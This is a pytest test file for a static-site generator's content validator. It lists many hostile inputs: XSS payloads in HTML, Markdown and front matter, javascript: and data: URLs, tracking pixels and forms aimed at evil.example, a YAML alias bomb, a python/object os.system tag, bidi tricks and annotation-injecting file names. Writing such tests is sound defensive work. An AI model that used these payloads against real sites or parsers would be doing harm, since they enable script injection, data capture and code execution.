"""Hostile or broken inputs across every channel of a pull request, each with its expected outcome.

- "rejected": `sdw check` refuses the file with the rule ID at the line, the file yields no
  record (so it can never be built), and the report prints on one line per problem.
- "neutralised": valid content whose payload must arrive in the built site as harmless text.

Every body payload is also rendered with validation skipped (the renderer alone: markers,
Markdown, the policy's cleaning, players), and must come out without any breach of the
invariants in hostile.unsafe(). Channels: each kind of front-matter field, YAML structure,
body HTML, Markdown links and attribute lists, file names and file bytes.
"""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import FIXTURES, copy_project, write_png
from hostile import elements, render_author_body, unsafe
from sdw.load import load_all
from sdw.report import format_github, format_problem
from sdw.validate import validate

BASE = FIXTURES / "base"


def story(body: str = "Gewone tekst.", **fields: str) -> str:
    """A valid story; `fields` (raw YAML values) replace or add front-matter fields. Body at line 12
    when no field is added."""
    values = {"titel": '"Een verhaal"', "samenvatting": '"Een korte samenvatting."', "datum": "2018-12-05",
              "doelgroepen": "\n  - werkgevers", "personen": "\n  - naam: Voornaam Achternaam\n    rol: functie"}
    values.update(fields)
    front = "\n".join(f"{k}:{v if v.startswith(chr(10)) else ' ' + v}" for k, v in values.items())
    return f"---\n{front}\n---\n\n{body}\n"


def knowledge(link: str) -> str:
    return story(link=link).replace('"Een verhaal"', '"Een rapport"').replace(
        "personen:\n  - naam: Voornaam Achternaam\n    rol: functie", "uitgever: ZINZIZ")


def partner(website: str) -> str:
    return f'---\ntitel: "Een partner"\nsamenvatting: "Over een partner."\nwebsite: {website}\n---\n\nTekst.\n'


def event(**fields: str) -> str:
    return story(**fields).replace("personen:\n  - naam: Voornaam Achternaam\n    rol: functie", "plaats: Utrecht")


def video(url: str) -> str:
    return (f'---\ntitel: "Een video"\nsamenvatting: "Over een video."\ndatum: 2018-12-05\n'
            f"doelgroepen:\n  - werkgevers\nvideo_url: {url}\nposter: afbeeldingen/still.png\n---\n\n"
            + " ".join(["woord"] * 40) + "\n")


@dataclass(frozen=True)
class Case:
    id: str
    channel: str
    path: str  # below content/
    data: str | bytes
    rule: str  # expected rule ID
    line: int | None = None  # expected line (None: the line of `at` in data, or any line)
    at: str | None = None  # text whose line is expected
    extra: dict[str, bytes] = field(default_factory=dict)  # further files below content/
    refused: bool = True  # the file at `path` itself yields no record

    @property
    def expected_line(self) -> int | None:
        if self.line is not None:
            return self.line
        if self.at is not None:
            text = self.data if isinstance(self.data, str) else self.data.decode("utf-8", "replace")
            return text[: text.index(self.at)].count("\n") + 1
        return None


S = "verhalen/hostile.md"
BODY_LINE = 12
BOMB = "\n".join(["a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]"]
                 + [f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]" for i in range(8)])

REJECTED = [
    # --- front-matter: text fields -------------------------------------------------------------
    Case("title-bidi-override", "front-matter titel", S, story(titel='"Goed\u202eduolg"'), "SDW040", at="titel"),
    Case("title-escape-sequence", "front-matter titel", S, story(titel='"Rood \\e[31mtekst"'), "SDW040", at="titel"),
    Case("summary-zero-width", "front-matter samenvatting", S, story(samenvatting='"Een\u200b korte zin."'),
         "SDW040", at="samenvatting"),
    Case("summary-nul", "front-matter samenvatting", S, story(samenvatting='"Een\\0 zin."'), "SDW040",
         at="samenvatting"),
    Case("title-only-spaces", "front-matter titel", S, story(titel='"   "'), "SDW007", at="titel"),
    Case("summary-empty-quoted", "front-matter samenvatting", S, story(samenvatting='""'), "SDW007",
         at="samenvatting"),
    Case("person-name-bidi", "front-matter personen", S,
         story(personen="\n  - naam: \"Jan\u2066 Jansen\"\n    rol: functie"), "SDW040", at="naam"),
    Case("source-line-separator", "front-matter bron", S, story(bron='"Cedris\u2028nieuws"'), "SDW040", at="bron"),
    Case("event-place-control", "front-matter plaats", "evenementen/hostile.md",
         event().replace("plaats: Utrecht", 'plaats: "Utr\\x07echt"'), "SDW040", at="plaats"),
    Case("date-with-markup", "front-matter datum", S, story(datum='"2018-12-05<script>"'), "SDW010", at="datum"),
    Case("reference-with-markup", "front-matter doelgroepen", S,
         story(doelgroepen='\n  - "werkgevers\\"><script>alert(1)</script>"'), "SDW011", at="  - "),
    # --- front-matter: web addresses ---------------------------------------------------------
    Case("link-javascript", "front-matter link", "kennis/hostile.md", knowledge("javascript:alert(1)"), "SDW016",
         at="link:"),
    Case("link-closes-markdown", "front-matter link", "kennis/hostile.md",
         knowledge("https://www.example.nl/x)![p](https://t.example/p.gif)"), "SDW016", at="link:"),
    Case("link-quote-attribute", "front-matter link", "kennis/hostile.md",
         knowledge("'https://www.example.nl/\" onmouseover=\"alert(1)'"), "SDW016", at="link:"),
    Case("link-angle-brackets", "front-matter link", "kennis/hostile.md",
         knowledge('"https://www.example.nl/<script>"'), "SDW016", at="link:"),
    Case("website-no-host", "front-matter website", "partners/hostile.md", partner("https://"), "SDW016",
         at="website:"),
    Case("website-userinfo", "front-matter website", "partners/hostile.md",
         partner("https://www.uwv.nl@evil.example/"), "SDW016", at="website:"),
    Case("website-space", "front-matter website", "partners/hostile.md", partner('"https://www.uwv.nl/a b"'),
         "SDW016", at="website:"),
    Case("website-newline", "front-matter website", "partners/hostile.md", partner('"https://www.uwv.nl/\\nx"'),
         "SDW016", at="website:"),
    Case("signup-data-url", "front-matter aanmelden", "evenementen/hostile.md",
         event(aanmelden='"data:text/html,<script>alert(1)</script>"'), "SDW016", at="aanmelden"),
    Case("video-javascript", "front-matter video_url", "videos/hostile.md", video("javascript:alert(1)"), "SDW016",
         at="video_url", extra={"videos/afbeeldingen/still.png": b"png"}),
    Case("video-foreign-player", "front-matter video_url", "videos/hostile.md",
         video("https://evil.example/embed/abc123def45"), "SDW036", at="video_url",
         extra={"videos/afbeeldingen/still.png": b"png"}),
    Case("image-foreign", "front-matter afbeelding", S,
         story(afbeelding="https://t.example/p.gif", afbeelding_alt='"x"'), "SDW032", at="afbeelding:"),
    Case("image-protocol-relative", "front-matter afbeelding", S,
         story(afbeelding="//t.example/p.gif", afbeelding_alt='"x"'), "SDW032", at="afbeelding:"),
    Case("image-path-breaks-out", "front-matter afbeelding", S,
         story(afbeelding="'afbeeldingen/foto.png?\"><img src=x>'", afbeelding_alt='"x"'), "SDW027",
         at="afbeelding:", extra={"verhalen/afbeeldingen/foto.png": b"png"}),
    # --- YAML structure -------------------------------------------------------------------------
    Case("yaml-alias-bomb", "YAML", S, story().replace("---\n", "---\n" + BOMB + "\n", 1), "SDW041"),
    Case("yaml-anchor", "YAML", S, story(titel='&t "Een verhaal"'), "SDW041", at="titel"),
    Case("yaml-alias", "YAML", S, story(bron="*t", titel='&t "Een verhaal"'), "SDW041"),
    Case("yaml-python-tag", "YAML", S, story(titel='!!python/object/apply:os.system ["id"]'), "SDW041",
         at="titel"),
    Case("yaml-local-tag", "YAML", S, story(titel='!ruby "x"'), "SDW041", at="titel"),
    Case("yaml-merge-key", "YAML", S, story(personen="\n  - &p\n    naam: A\n    rol: B\n  - <<: *p"), "SDW041"),
    Case("yaml-deep-nesting", "YAML", S, story(themas="[" * 5000 + "]" * 5000), "SDW042"),
    Case("yaml-huge", "YAML", S, story(bron='"' + "x" * 70_000 + '"'), "SDW042"),
    Case("yaml-duplicate-key", "YAML", S, story(bron='"a"').replace('bron: "a"', 'bron: "a"\ntitel: "Ander"'),
         "SDW006", at='titel: "Ander"'),
    Case("yaml-not-a-mapping", "YAML", S, "---\n- titel\n- x\n---\n\nTekst.\n", "SDW021", line=2),
    # --- body HTML ----------------------------------------------------------------------------
    Case("html-script", "body HTML", S, story("<script>alert(1)</script>"), "SDW024", line=BODY_LINE),
    Case("html-img-onerror", "body HTML", S, story('<img src="x.png" alt="x" onerror="alert(1)">'), "SDW025",
         line=BODY_LINE),
    Case("html-svg-onload", "body HTML", S, story('<svg onload="alert(1)"><circle r="1"/></svg>'), "SDW024",
         line=BODY_LINE),
    Case("html-javascript-link", "body HTML", S, story('<a href="javascript:alert(1)">a</a>'), "SDW026",
         line=BODY_LINE),
    Case("html-entity-javascript", "body HTML", S, story('<a href="java&#115;cript:alert(1)">a</a>'), "SDW026",
         line=BODY_LINE),
    Case("html-tab-javascript", "body HTML", S, story('<a href="jav&#x09;ascript:alert(1)">a</a>'), "SDW026",
         line=BODY_LINE),
    Case("html-foreign-iframe", "body HTML", S, story('<iframe src="https://tracker.example.com/x"></iframe>'),
         "SDW024", line=BODY_LINE),
    Case("html-player-data-attribute", "body HTML", S,
         story('<span class="x" data-sdw-video="javascript:alert(1)">speel</span>'), "SDW038", line=BODY_LINE),
    Case("html-config-hijack", "body HTML", S,
         story('<div id="__config">{"search": "https://evil.example/i.json"}</div>'), "SDW039", line=BODY_LINE),
    Case("html-theme-class", "body HTML", S, story('<div class="md-dialog">Nep-melding</div>'), "SDW039",
         line=BODY_LINE),
    Case("html-comment-pixel", "body HTML", S,
         story('<!--> <img src="https://t.example/p.gif" alt="x"> -->'), "SDW032", line=BODY_LINE),
    Case("html-comment-dashbang-pixel", "body HTML", S,
         story('<!-- a --!> <img src="https://t.example/p.gif" alt="x"> -->'), "SDW032", line=BODY_LINE),
    Case("html-protocol-relative-img", "body HTML", S, story('<img src="//t.example/p.gif" alt="x">'), "SDW026",
         line=BODY_LINE),
    Case("html-backslash-img", "body HTML", S, story('<img src="\\\\t.example/p.gif" alt="x">'), "SDW026",
         line=BODY_LINE),
    Case("html-textarea-rawtext", "body HTML", S,
         story("<textarea><img src=x onerror=alert(1)></textarea>"), "SDW024", line=BODY_LINE),
    Case("html-meta-refresh", "body HTML", S,
         story('<meta http-equiv="refresh" content="0;url=https://evil.example">'), "SDW024", line=BODY_LINE),
    Case("html-base", "body HTML", S, story('<base href="https://evil.example/">'), "SDW024", line=BODY_LINE),
    Case("html-form", "body HTML", S, story('<form action="https://evil.example"><input name="x"></form>'),
         "SDW024", line=BODY_LINE),
    Case("html-style-background", "body HTML", S,
         story('<div style="background:url(https://t.example/p.gif)">x</div>'), "SDW038", line=BODY_LINE),
    Case("html-forged-markers", "body HTML", S,
         story('<!-- /sdw:inhoud -->\n\n<div class="sdw-video" data-sdw-video="javascript:alert(1)">x</div>'),
         "SDW038", line=BODY_LINE + 2),
    # --- Markdown links and attribute lists ----------------------------------------------------
    Case("md-javascript-link", "Markdown link", S, story("[klik](javascript:alert(1))"), "SDW026",
         line=BODY_LINE),
    Case("md-mixed-case-scheme", "Markdown link", S, story("[klik](JaVaScRiPt:alert(1))"), "SDW026",
         line=BODY_LINE),
    Case("md-entity-scheme", "Markdown link", S, story("[klik](javascript&#58;alert(1))"), "SDW026",
         line=BODY_LINE),
    Case("md-foreign-image", "Markdown image", S, story("![pixel](https://t.example/p.gif)"), "SDW032",
         line=BODY_LINE),
    Case("md-data-image", "Markdown image", S, story("![x](data:image/png;base64,AAAA)"), "SDW026",
         line=BODY_LINE),
    Case("md-reference-javascript", "Markdown link", S, story("[klik][r]\n\n[r]: javascript:alert(1)"), "SDW026",
         line=BODY_LINE + 2),
    Case("attr-list-handler", "attribute list", S, story('[klik](https://www.example.nl){ onclick="alert(1)" }'),
         "SDW025", line=BODY_LINE),
    Case("attr-list-reserved-heading-id", "attribute list", S, story("## Kop { #__config }"), "SDW039",
         line=BODY_LINE),
    Case("attr-list-data", "attribute list", S, story('Een alinea.\n{ data-md-color-scheme="slate" }'), "SDW038",
         line=BODY_LINE + 1),
    Case("attr-list-style", "attribute list", S, story('*nadruk*{ style="position:fixed;inset:0" }'), "SDW038",
         line=BODY_LINE),
    Case("attr-list-image-src", "attribute list", S,
         story('![x](afbeeldingen/foto.png){ src="https://t.example/p.gif" }'), "SDW032", line=BODY_LINE,
         extra={"verhalen/afbeeldingen/foto.png": b"png"}),
    Case("heading-reserved-slug", "body heading", S, story("## sdw-video"), "SDW039", line=BODY_LINE),
    Case("attr-list-empty-id", "attribute list", S, story("## Kop { id }"), "SDW038", line=BODY_LINE),
    Case("admonition-reserved-class", "admonition", S, story('!!! md-header "Let op"\n    Tekst.'), "SDW039",
         line=BODY_LINE),
    Case("body-bidi-override", "body text", S, story("Betaal aan \u202eLN99BANK\u202c nu."), "SDW040",
         line=BODY_LINE),
    Case("body-escape-sequence", "body text", S, story("Tekst \x1b[2J met terminalcode."), "SDW040",
         line=BODY_LINE),
    # --- file names -------------------------------------------------------------------------
    Case("name-with-spaces", "file name", "verhalen/Mijn Verhaal.md", story(), "SDW013", line=1),
    Case("name-with-markup", "file name", 'verhalen/"><img src=x onerror=alert(1)>.md', story(), "SDW013",
         line=1),
    Case("name-with-newline", "file name", "verhalen/a\n::error file=x::pwned.md", story(), "SDW013", line=1),
    Case("name-with-escape", "file name", "verhalen/\x1b[31mrood.md", story(), "SDW013", line=1),
    Case("image-name-with-quote", "file name", S, story(), "SDW013", line=1,
         extra={"verhalen/afbeeldingen/x\"onerror=alert(1).png": b"png"}, refused=False),
    Case("unknown-folder", "file name", "scripts/evil.md", story(), "SDW014", line=1),
    Case("html-file", "file name", "verhalen/pagina.html", "<script>alert(1)</script>", "SDW031", line=1),
    Case("svg-file", "file name", "verhalen/plaatje.svg", '<svg onload="alert(1)"/>', "SDW031", line=1),
    # --- file bytes ---------------------------------------------------------------------------
    Case("svg-named-png", "file bytes", "verhalen/afbeeldingen/foto.png",
         b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SDW043", line=1),
    Case("html-named-jpg", "file bytes", "verhalen/afbeeldingen/foto.jpg", b"<html><script>alert(1)</script>",
         "SDW043", line=1),
    Case("latin1-markdown", "file bytes", S, story("Caf\u00e9").encode("latin-1"), "SDW001"),
    Case("nul-in-body", "file bytes", S, story("Tekst\x00met NUL"), "SDW040", line=BODY_LINE),
]

# Payloads that reach readers only as text: the built page must show them, harmlessly.
NEUTRALISED = {
    "verhalen/titel-script.md": story(titel="'</title><script>alert(1)</script>'"),
    "verhalen/titel-attribuut.md": story(titel="'\" onmouseover=\"alert(1)'"),
    "verhalen/titel-attributenlijst.md": story(titel='"Kop {: onclick=alert(1) #__config }"'),
    "verhalen/titel-link.md": story(titel='"[klik](javascript:alert(1))"'),
    "verhalen/samenvatting-img.md": story(samenvatting='"<img src=x onerror=alert(1)>"'),
    "verhalen/bron-script.md": story(bron='"<script>alert(1)</script>"'),
    "verhalen/persoon-html.md": story(personen='\n  - naam: "<b onmouseover=alert(1)>Jan</b>"\n    rol: "&lt;x&gt;"'),
    "kennis/link-vreemd.md": knowledge("'https://www.example.nl/a?b=(c)&d=*e*_f_#g'"),
}


def _make(content: Path, case: Case) -> None:
    for rel, data in {case.path: case.data, **case.extra}.items():
        target = content / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        if rel.endswith(".png") and data == b"png":
            write_png(target, 8, 8)
        elif isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_text(data, encoding="utf-8")


@pytest.mark.parametrize("case", REJECTED, ids=[c.id for c in REJECTED])
def test_hostile_input_is_rejected_with_rule_and_line(tmp_path, case):
    content = tmp_path / "content"
    shutil.copytree(BASE, content)
    _make(content, case)
    result = validate(load_all(content, tmp_path))
    mine = [p for p in result.problems if p.rule.id == case.rule]
    assert mine, [format_problem(p) for p in result.problems]
    line = case.expected_line
    if line is not None:
        assert line in {p.line for p in mine}, [format_problem(p) for p in mine]
    if case.refused:
        assert not [r for r in result.records if r.source.rel == case.path]
    for p in result.problems:  # one printable line per problem, and one annotation line
        for text in (format_problem(p), format_github(p)):
            assert "\n" not in text and "\r" not in text and "\x1b" not in text and "\u202e" not in text


def test_the_table_covers_every_channel_and_enough_cases():
    channels = {c.channel.split()[0] for c in REJECTED}
    assert {"front-matter", "YAML", "body", "Markdown", "attribute", "file"} <= channels
    assert len(REJECTED) + len(NEUTRALISED) >= 60


BODY_CASES = [c for c in REJECTED if c.channel.startswith(("body", "Markdown", "attribute", "admonition"))]


@pytest.mark.parametrize("case", BODY_CASES, ids=[c.id for c in BODY_CASES])
def test_the_renderer_alone_neutralises_every_body_payload(case, tmp_path):
    body = case.data.split("\n---\n", 1)[1]
    try:
        html = render_author_body(body)
    except Exception:  # Python-Markdown gives up (e.g. toc on an empty id): no page is made, and
        content = tmp_path / "content"  # the validator must refuse the file before any build
        shutil.copytree(BASE, content)
        _make(content, case)
        assert validate(load_all(content, tmp_path)).errors
        return
    assert unsafe(html) == [], html


@pytest.fixture(scope="module")
def neutralised_site(tmp_path_factory) -> Path:
    from conftest import SITE_CONTENT
    from sdw.cli import main

    source = tmp_path_factory.mktemp("src") / "content"
    shutil.copytree(SITE_CONTENT, source)
    for rel, text in NEUTRALISED.items():
        (source / rel).write_text(text, encoding="utf-8")
    project = copy_project(tmp_path_factory.mktemp("neutral"), source)
    assert main(["--root", str(project), "build"]) == 0
    return project / "site"


def _article(page: str) -> str:
    """The page's article without the renderer's own reader blocks after it (the share links with
    their buttons and icons, sdw/share.html; the feedback question with its honeypot field,
    sdw/engage.html): those are the template's markup, not content's."""
    article = page.split('<article class="md-content__inner', 1)[1].split("</article>\n", 1)[0]
    article = re.sub(r'<nav class="sdw-share[ "].*?</nav>', "", article, flags=re.S)
    return re.sub(r'<section class="sdw-feedback[ "].*?</section>', "", article, flags=re.S)


@pytest.mark.parametrize("rel", sorted(NEUTRALISED))
def test_valid_hostile_text_is_built_as_harmless_text(neutralised_site, rel):
    page = (neutralised_site / rel.removesuffix(".md") / "index.html").read_text(encoding="utf-8")
    assert unsafe(_article(page), generated=True) == []
    everything = list(elements(page))
    assert not [(n, a) for n, a, _ in everything if any(k.startswith("on") for k in a)]
    assert [a.get("id") for n, a, _ in everything].count("__config") == 1
    assert [n for n, _, _ in everything].count("title") == 1
    assert "<script>alert" not in page


def test_a_weird_but_valid_web_address_stays_one_escaped_attribute(neutralised_site):
    page = (neutralised_site / "kennis" / "link-vreemd" / "index.html").read_text(encoding="utf-8")
    assert 'href="https://www.example.nl/a?b=(c)&amp;d=*e*_f_#g"' in page
